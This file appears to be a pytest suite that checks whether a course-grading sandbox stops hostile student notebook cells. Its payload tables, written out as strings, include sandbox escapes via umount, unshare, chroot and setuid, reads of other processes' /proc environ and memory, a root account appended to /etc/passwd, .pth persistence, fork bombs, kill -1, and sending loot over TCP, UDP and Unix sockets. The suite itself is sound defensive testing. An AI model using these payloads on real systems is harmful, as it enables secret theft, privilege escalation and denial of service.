"""Sixty ways to get points, others' work or the machine from a graded cell: none gets anything, and each is told."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sys
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import NoReturn

import pytest

from ascend_workbook.findings.errors import WorkbookError
from ascend_workbook.machine.project import ROOT
from ascend_workbook.machine.sandbox import NAMESPACES, find_guard
from course.grading import grade_submissions, limits
from course.grading.limits import OWN_USERS, Limits
from course.grading.view import list_hidden, write_package
from tests.course.test_grading import CHECK, NOTHING, handed_in, rows, solved

pytestmark = pytest.mark.skipif(
    sys.platform != "linux" or find_guard() != NAMESPACES, reason="the machine allows no name spaces"
)
#: What nobody's cell may ever see.
PRIVATE = "friend's precious answer"
TOKEN = "token-of-the-teacher"
#: A line of the checker, and one of the solutions.
CHECKER = "def check(answer: object, place: Place)"
#: A cell's world: place (what the test made), root (the project), libc.
START = """
import ctypes, json, os, pathlib, shutil, signal, socket, subprocess, sys, time
place, root, host, port = pathlib.Path({place!r}), pathlib.Path({root!r}), {host!r}, {port}
libc, here = ctypes.CDLL(None, use_errno=True), pathlib.Path(run_dir).parent
loot = {{}}
def read(path):
    return pathlib.Path(path).read_text(errors="replace")
def read_below(folder, suffix=""):
    return " ".join(read(p) for p in pathlib.Path(folder).rglob("*" + suffix) if p.is_file())
"""
ATTACK = """
try:
    loot[{name!r}] = str(eval(compile({code!r}, "attack", "eval")) if {one} else exec({code!r}))
except BaseException as error:
    loot[{name!r}] = "refused: " + type(error).__name__ + " " + str(error)[:200]
"""
END = "(here / 'loot.json').write_text(json.dumps(loot))"

READS = {
    "the solutions beside the package": "read(root / 'notebooks/course/solutions/05_exercises.py')",
    "the solutions beside helpers": "read(pathlib.Path(__import__('helpers').__file__).parents[1] / "
    "'notebooks/course/solutions/05_exercises.py')",
    "the solutions wherever they lie": "[read(p) for p in root.rglob('*.py') if 'solutions' in p.parts]",
    "the solutions by find": 'subprocess.run(f\'cat $(find {root} -path "*solutions*" -name "*.py")\', shell=True, '
    "capture_output=True, text=True, timeout=30).stdout",
    "the solutions in git": "subprocess.run(['git', '-C', str(root), 'show', "
    "'HEAD:notebooks/course/solutions/05_exercises.py'], capture_output=True, text=True).stdout",
    "git's objects": "list((root / '.git').iterdir())[0].name + ' PRIVATE' if (root / '.git').is_dir() and "
    "any((root / '.git').iterdir()) else ''",
    "the tests' answers": "read_below(root / 'tests/course', '.py')",
    "the solved notebook": "__import__('course.packing.solving').packing.solving."
    "write_solved(out=str(here / 's.ipynb'))"
    " and read(here / 's.ipynb')",
    "the checker's source": "__import__('inspect').getsource(__import__('course.tasks.env').tasks.env.check)",
    "the checker's helpers": "__import__('inspect').getsource(__import__('course.tasks.env').tasks.env._judge_pair)",
    "the checker's file": "read(root / 'course/tasks/env.py')",
    "the checker's compiled file": "b''.join(p.read_bytes() for p in (root / 'course').rglob('*.pyc'))",
    "the checker through the loader": "__import__('importlib.util').util.spec_from_file_location('x', "
    "root / 'course/tasks/env.py').loader.get_data(str(root / 'course/tasks/env.py'))",
    "the grader": "__import__('course.grading.attempt').grading.attempt.__file__",
    "a friend's submission": "read(place / 'in/ann.ipynb')",
    "all submissions": "read_below(place / 'in')",
    "a friend's run": "read_below(place / 'grades.csv.work', '.ipynb')",
    "a friend's grade": "[read(p) for p in (place / 'grades.csv.work').glob('*/grade.json')]",
    "a friend's record": "[read(p) for p in (place / 'grades.csv.work').glob('*/home/run/course.json')]",
    "the table": "read(place / 'grades.csv')",
    "the names": "read(place / 'names.csv')",
    "the teacher's home": "read_below(pathlib.Path(host) / 'teacher')",
    "the grader's environment": "[read(f'/proc/{p}/environ') for p in os.listdir('/proc') if p.isdigit()]",
    "its own environment": "dict(os.environ)",
    "the first process's root": "read('/proc/1/root' + str(place / 'in/ann.ipynb'))",
    "its own root": "read('/proc/self/root' + str(place / 'in/ann.ipynb'))",
    "the processes' folders": "[os.listdir(f'/proc/{p}/cwd/../..') for p in os.listdir('/proc') if p.isdigit() "
    "and os.path.exists(f'/proc/{p}/cwd')] and read_below(here / '..' / '..', '.ipynb').replace('loot', '')",
    "open descriptors": "[read(f'/proc/{p}/fd/{n}/in/ann.ipynb') for p in os.listdir('/proc') if p.isdigit() "
    "for n in os.listdir(f'/proc/{p}/fd') if os.path.isdir(f'/proc/{p}/fd/{n}')]",
    "the layers' folders": "'PRIVATE' if any('ann.ipynb' in read(p) for p in here.parent.glob('.enclosure*/**/*') "
    "if p.is_file()) else ''",
    "take the cover away": "[libc.umount2(os.fsencode(p), 2) for p in (place / 'in', root / 'course', "
    "root / 'notebooks/course/solutions')] and read_below(place / 'in')",
    "a name space of its own": "libc.unshare(0x10020000) and None or libc.umount2(os.fsencode(place / 'in'), 2) "
    "and None or read_below(place / 'in')",
    "a second root": "libc.chroot(b'/proc/1/root') and None or read_below(place / 'in')",
    "a file's handle": "libc.syscall(304, -100, 0, 0) and read_below(place / 'in')",
    "the disk": "open('/dev/vda', 'rb').read(512)",
    "a disk of its own making": "os.mknod(here / 'disk', 0o60600, os.makedev(254, 0)) or "
    "open(here / 'disk', 'rb').read(9)",
    "another user": "os.setuid(0) or read_below(place / 'in')",
}
WRITES = {
    "the table": "(place / 'grades.csv').write_text('eve,100')",
    "its own grade": "[(p / 'grade.json').write_text('{}') for p in (place / 'grades.csv.work').iterdir()]",
    "a friend's grade": "next((place / 'grades.csv.work').glob('ann*/grade.json')).write_text('{}')",
    "delete the submissions": "shutil.rmtree(place / 'in')",
    "delete the work": "shutil.rmtree(place / 'grades.csv.work')",
    "the checker": "(root / 'course' / 'exercises' / 'checking.py').write_text('raise SystemExit')",
    "the engine": "(root / 'ascend_workbook' / '__init__.py').write_text('raise SystemExit')",
    "a module that every Python loads": "pathlib.Path(__import__('sysconfig').get_paths()['purelib'], "
    "'eve.pth').write_text('import eve')",
    "sitecustomize": "pathlib.Path(__import__('sysconfig').get_paths()['purelib'], 'sitecustomize.py').write_text('')",
    "the kernel": "pathlib.Path(sys.prefix, 'share/jupyter/kernels/python3/kernel.json').write_text('{}')",
    "the simulated NPU": "[p.unlink() for p in pathlib.Path(sys.prefix, 'share/ascend-workbook').rglob('*.so')]",
    "the teacher's shell": "(pathlib.Path(host) / 'teacher' / '.bashrc').write_text('eve')",
    "the machine's users": "open('/etc/passwd', 'a').write('eve::0:0::/:/bin/sh')",
    "what the next one finds in /tmp": "pathlib.Path('/tmp/eve_was_here').write_text('x')",
    "what the next one finds in shared memory": "pathlib.Path('/dev/shm/eve_was_here').write_text('x')",
    "the package that it sees": "(here.parent / 'package' / 'course' / 'eve.py').write_text('x')",
}
OTHERS = {
    "kill the grader": "os.kill({pid}, 9)",
    "stop the grader": "os.kill({pid}, 19)",
    "read the grader's memory": "open('/proc/{pid}/mem', 'rb')",
    "tcp": "socket.create_connection(('127.0.0.1', port), 2).sendall(b'loot')",
    "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('192.0.2.1', 53))",
    "a name to look up": "socket.getaddrinfo('example.com', 80)",
    "a socket that is a file": "(s := socket.socket(socket.AF_UNIX)).connect(str(place / 'socket')) or "
    "s.sendall(b'loot')",
    "an abstract socket": "(s := socket.socket(socket.AF_UNIX)).connect('\\0' + str(place)) or s.sendall(b'loot')",
    "trace the parent": "'refused' if libc.ptrace(16, os.getppid() - 1 or 1, 0, 0) else 'traced'",
    "a check that likes all": "setattr(__import__('course.exercises.checking').exercises.checking, "
    "'judge_answer', lambda *a: None)",
    "its own module course": "(here / 'course.py').write_text('check_task = print')",
}
#: Each ends or floods the process that it runs in: a submission of its own.
FLOODS = {
    "forks": "while True: os.fork()",
    "memory": "taken = []\nwhile True: taken.append(b'x' * (64 << 20))",
    "disk": "n = 0\nwhile True:\n (here / f'fill{n}').write_bytes(os.urandom(1 << 24)); n += 1",
    "kill all": "os.kill(-1, 9)",
    "stop all": "os.kill(-1, signal.SIGSTOP)",
    "a daemon": "if os.fork() == 0:\n os.setsid()\n if os.fork() == 0:\n  time.sleep(3); "
    "(place / 'late').write_text('x'); time.sleep(60)\n os._exit(0)",
    "leave": "os._exit(0)",
    "a record that is a pipe": "pathlib.Path(run_dir).mkdir(exist_ok=True); "
    "os.mkfifo(pathlib.Path(run_dir) / 'course.json')",
    "a record that is a friend's": "pathlib.Path(run_dir).mkdir(exist_ok=True); os.symlink(next((place / "
    "'grades.csv.work').glob('ann*'), place) / 'home/run/course.json', pathlib.Path(run_dir) / 'course.json')",
}


@dataclass
class Host:
    """The machine around the graded cells: what came over its sockets, and what lay there before."""

    place: Path
    port: int = 0
    received: list[bytes] = field(default_factory=list)

    def listen(self) -> Iterator[None]:
        tcp, file, abstract = socket.socket(), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
        tcp.bind(("127.0.0.1", 0))
        file.bind(str(self.place / "socket"))
        abstract.bind("\0" + str(self.place))
        self.port = tcp.getsockname()[1]
        for server in (tcp, file, abstract):
            server.listen()
            threading.Thread(target=self._accept, args=(server,), daemon=True).start()
        yield
        for server in (tcp, file, abstract):
            server.close()

    def _accept(self, server: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                self.received.append(server.accept()[0].recv(9))


@pytest.fixture(params=["open", "closed"])
def place(request: pytest.FixtureRequest) -> Iterator[Path]:
    """A folder that all users may enter, where root gives each submission a user of its own, and one that is closed."""
    with tempfile.TemporaryDirectory(prefix="grades_") as folder:
        Path(folder).chmod(0o755 if request.param == "open" else 0o700)
        yield Path(folder)


@pytest.fixture
def host(place: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    """A teacher's machine, with secrets, and a submission that was graded before."""
    (place / "teacher").mkdir()
    (place / "teacher" / ".bashrc").write_text(PRIVATE)
    (place / "names.csv").write_text("eve,eve\nann,ann\n")
    monkeypatch.setenv("MY_TOKEN", TOKEN)
    monkeypatch.setenv("HOME", str(place / "teacher"))
    handed_in(place / "in", "ann.ipynb", f"# {PRIVATE}", solved("ann"), CHECK)
    made = Host(place)
    yield from (made for _ in made.listen())


def attack_cells(host: Host, attacks: dict[str, str]) -> list[str]:
    """Return a cell per attack, between those that make their world and keep what they got."""
    start = START.format(place=str(host.place), root=str(ROOT), host=str(host.place), port=host.port)
    cells = [ATTACK.format(name=name, code=code, one=True) for name, code in attacks.items()]
    return [start, *cells, END]


def grade(host: Host, limits: Limits | None = None) -> dict[str, dict[str, str]]:
    table = host.place / "grades.csv"
    grade_submissions(
        host.place / "in", table, names=host.place / "names.csv", limits=limits or Limits(seconds=200), lang="en"
    )
    return rows(table)


def read_loot(host: Host) -> dict[str, str]:
    path = next((host.place / "grades.csv.work").glob("eve*")) / "home" / "loot.json"
    loot: dict[str, str] = json.loads(path.read_text())
    return loot


def test_nothing_is_read_that_is_not_its_own(host: Host) -> None:
    handed_in(host.place / "in", "eve.ipynb", *attack_cells(host, READS), NOTHING, CHECK)
    table = grade(host)
    loot = read_loot(host)
    assert loot.keys() == READS.keys()
    home = next((host.place / "grades.csv.work").glob("eve*/home"))
    assert home.stat().st_uid in OWN_USERS if os.geteuid() == 0 else home.stat().st_uid == os.geteuid()
    solution = next(
        line
        for line in (ROOT / "notebooks/course/solutions/05_exercises.py").read_text().splitlines()
        if len(line) > 40
    )
    seen = {
        name
        for name, text in loot.items()
        if any(secret in text for secret in (PRIVATE, TOKEN, CHECKER, solution, "PRIVATE", "ann,ann"))
    }
    assert not seen
    assert (table["ann.ipynb"]["env_points"], table["eve.ipynb"]["points"]) == ("1", "0")


def test_a_folder_of_the_project_on_the_path_shows_no_solutions(monkeypatch: pytest.MonkeyPatch) -> None:
    """What the grading process imports from, or has in its environment, opens no folder of the project."""
    course = ROOT / "notebooks" / "course"
    monkeypatch.syspath_prepend(str(course))
    monkeypatch.setenv("ASCEND_WORKBOOK_RUNS", str(ROOT / "tests"))
    hidden = list_hidden([], [], judge=False)
    for place in (course / "solutions", ROOT / "tests" / "course"):
        assert any(place == path or path in place.parents for path in hidden)


def test_submissions_in_the_folder_that_python_was_started_in_are_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`python -m ascend_workbook` puts its folder on the path: what is private there stays so, but for one's own."""
    for name in ("in", "work/ann", "work/eve"):
        (tmp_path / name).mkdir(parents=True)
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    hidden = list_hidden([tmp_path / "in", tmp_path / "work"], [tmp_path / "work/eve"], judge=False)
    assert {tmp_path / "in", tmp_path / "work/ann"} <= {*hidden}
    assert not {tmp_path / "work", tmp_path / "work/eve"} & {*hidden}


@pytest.mark.parametrize("named", [".", "./", "../in"])
def test_submissions_in_the_folder_where_the_teacher_stands_are_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, named: str
) -> None:
    handed_in(tmp_path / "in", "eve.ipynb", NOTHING, CHECK)
    monkeypatch.chdir(tmp_path / "in")
    hidden: list[list[Path]] = []

    def stop(*given: object) -> NoReturn:
        hidden.append([Path(os.path.realpath(path)) for path in given[-1]])  # type: ignore[attr-defined]
        raise WorkbookError("sandbox.no_account", path="x", why="y")

    monkeypatch.setattr("course.grading.grade.grade_one", stop)
    grade_submissions(named, tmp_path / "grades.csv", limits=Limits(user=os.geteuid()))
    assert hidden == [[tmp_path / "in", tmp_path / "grades.csv", tmp_path / "grades.csv.work"]]


def test_the_package_can_be_read_by_a_user_of_its_own(tmp_path: Path) -> None:
    before = os.umask(0o077)
    try:
        write_package(tmp_path / "package")
    finally:
        os.umask(before)
    modes = {path.is_dir(): path.stat().st_mode & 0o777 for path in (tmp_path / "package").rglob("*")}
    assert modes == {True: 0o755, False: 0o644}


def test_an_enclosure_that_leaves_no_account_is_one_submissions_trouble(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    handed_in(tmp_path / "in", "ann.ipynb", solved("ann"), CHECK)
    handed_in(tmp_path / "in", "eve.ipynb", solved("eve"), CHECK)

    def lose(*_: object, **__: object) -> NoReturn:
        raise WorkbookError("sandbox.no_account", path="x", why="gone")

    monkeypatch.setattr(limits, "run_limited", lose)
    grade_submissions(tmp_path / "in", tmp_path / "grades.csv", lang="en")
    table = rows(tmp_path / "grades.csv")
    assert [*table] == ["ann.ipynb", "eve.ipynb"]
    assert all("left no account" in row["error"] for row in table.values())


def test_nothing_is_written_but_its_own(host: Host) -> None:
    others = {name: code.replace("{pid}", str(os.getpid())) for name, code in OTHERS.items()}
    before = {path: path.read_bytes() for path in (ROOT / "course").rglob("*.py")}
    handed_in(host.place / "in", "eve.ipynb", *attack_cells(host, WRITES), *attack_cells(host, others), CHECK)
    table = grade(host)
    assert (table["ann.ipynb"]["env_points"], table["eve.ipynb"]["points"]) == ("1", "0")
    assert {path: path.read_bytes() for path in (ROOT / "course").rglob("*.py")} == before
    assert sorted(path.name for path in (host.place / "in").iterdir()) == ["ann.ipynb", "eve.ipynb"]
    assert json.loads(next((host.place / "grades.csv.work").glob("ann*/grade.json")).read_text())["status"]
    assert (host.place / "teacher" / ".bashrc").read_text() == PRIVATE
    assert not any(Path(folder, "eve_was_here").exists() for folder in ("/tmp", "/dev/shm"))
    assert not list(Path(sys.prefix).glob("lib/python*/site-packages/eve.pth"))
    assert "eve" not in Path("/etc/passwd").read_text()
    assert host.received == []


@pytest.mark.full
@pytest.mark.parametrize("place", ["open"], indirect=True)
@pytest.mark.parametrize("name", FLOODS)
def test_who_floods_the_machine_is_ended_and_the_next_one_is_graded(host: Host, name: str) -> None:
    start = START.format(place=str(host.place), root=str(ROOT), host=str(host.place), port=host.port)
    handed_in(host.place / "in", "eve.ipynb", start, FLOODS[name], NOTHING, CHECK)
    handed_in(host.place / "in", "zoe.ipynb", solved("zoe"), CHECK)
    (host.place / "names.csv").write_text("eve,eve\nann,ann\nzoe,zoe\n")
    table = grade(host, Limits(seconds=60, memory_mib=1024, processes=100, disk_mib=200))
    assert [table[f"{who}.ipynb"]["points"] for who in ("ann", "eve", "zoe")] == ["1", "0", "1"]
    assert not (host.place / "late").exists()


SPY = """
import json, pathlib, sys
place, root = pathlib.Path({place!r}), pathlib.Path({root!r})
above = pathlib.Path(__file__).resolve().parents[2]
seen = [p for p in (*above.rglob("*"), *root.rglob("*.py"), *place.rglob("*")) if p.is_file()
        and p.suffix in (".py", ".ipynb", ".json", ".csv")]
loot = {{}}
for path in seen:
    try: loot[str(path)] = path.read_text(errors="replace")
    except OSError: pass
pathlib.Path("loot.json").write_text(json.dumps(loot))
"""


@pytest.mark.full
@pytest.mark.parametrize("place", ["open"], indirect=True)
def test_a_judged_script_sees_neither_the_checker_nor_what_it_is_held_against(host: Host) -> None:
    """The answer to a task is a script: it runs while the judge runs, and beside the original."""
    spy = "\n".join(
        (
            "from course.exercises.editing import original",
            f"spy = {SPY.format(place=str(host.place), root=str(ROOT))!r}",
            "answer = spy + original('slow_steps.py')",
            'from course import check_task\ncheck_task("loop", answer, run_dir=run_dir, student=student)',
        )
    )
    handed_in(host.place / "in", "eve.ipynb", spy)
    grade(host)
    judging = next((host.place / "grades.csv.work").glob("eve*/judging"))
    loot = json.loads(next(judging.rglob("loot.json")).read_text())
    assert any(name.endswith("script.py") for name in loot)  # its own
    text = "".join(loot.values())
    assert CHECKER not in text and PRIVATE not in text and "def judge_answer" not in text
    assert {Path(name).parents[1].name for name in loot if name.endswith("work/script.py")} == {"changed"}
